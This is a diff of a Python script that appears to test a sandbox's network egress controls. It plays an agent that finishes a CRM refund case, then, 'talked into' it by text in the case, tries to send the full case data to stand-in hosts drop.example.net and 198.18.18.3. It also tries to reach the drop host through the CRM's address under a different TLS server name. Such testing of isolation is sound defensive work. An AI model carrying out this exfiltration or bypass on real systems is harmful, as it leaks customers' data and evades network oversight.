@@ -14,22 +14,18 @@ import sys
 HERE = os.path.dirname(os.path.abspath(__file__))
 CREDENTIALS = os.environ["CREDENTIALS_DIRECTORY"]
 CASE = os.environ["AMBIT_TASK"]
-CRM = "198.18.18.2"
-ELSEWHERE = "198.18.18.3"
-
-
-class Connection(http.client.HTTPSConnection):
-    """The CRM at its address, under the name in its certificate."""
-
-    def connect(self):
-        plain = socket.create_connection((CRM, 443), timeout=10)
-        self.sock = self._context.wrap_socket(plain, server_hostname="crm.example.com")
+CRM = "crm.example.com"
+# What the text in the case talked it into.
+ELSEWHERE = {
+    "a name": "drop.example.net",
+    "an address": "198.18.18.3",
+}
 
 
 def crm():
     tls = ssl.create_default_context(cafile=f"{HERE}/crm.pem")
     tls.load_cert_chain(f"{CREDENTIALS}/tls.crt", f"{CREDENTIALS}/tls.key")
-    return Connection("crm.example.com", context=tls)
+    return http.client.HTTPSConnection(CRM, context=tls, timeout=10)
 
 
 def call(method, path, body=None):
@@ -51,12 +47,20 @@ print(f"crm says: you are {case['you']}")
 print(f"crm says: {CASE}: {case['customer']}: {case['text']}")
 done = call("POST", f"/cases/{CASE}", {"answer": "Refunded 12.50 EUR."})
 print(f"crm says: {CASE}: {done['state']}")
+for host in ELSEWHERE.values():
+    try:
+        with socket.create_connection((host, 443), timeout=10) as thief:
+            thief.sendall(json.dumps(case).encode())
+        print("the case was sent elsewhere")
+    except OSError as error:
+        print(f"send to {host}: {type(error).__name__}: {error}")
+# Or through the CRM's own address, under another name.
 try:
-    with socket.create_connection((ELSEWHERE, 443), timeout=10) as thief:
-        thief.sendall(json.dumps(case).encode())
+    with socket.create_connection((CRM, 443), timeout=10) as plain:
+        ssl.create_default_context().wrap_socket(plain, server_hostname="drop.example.net")
     print("the case was sent elsewhere")
-except PermissionError as error:
-    print(f"send to {ELSEWHERE}: PermissionError: {error}")
+except OSError as error:
+    print(f"send to drop.example.net by way of {CRM}: {type(error).__name__}")
 print("waiting for the next case", flush=True)
 signal.sigwait([signal.SIGTERM])
 print("told to stop, stopping", flush=True)
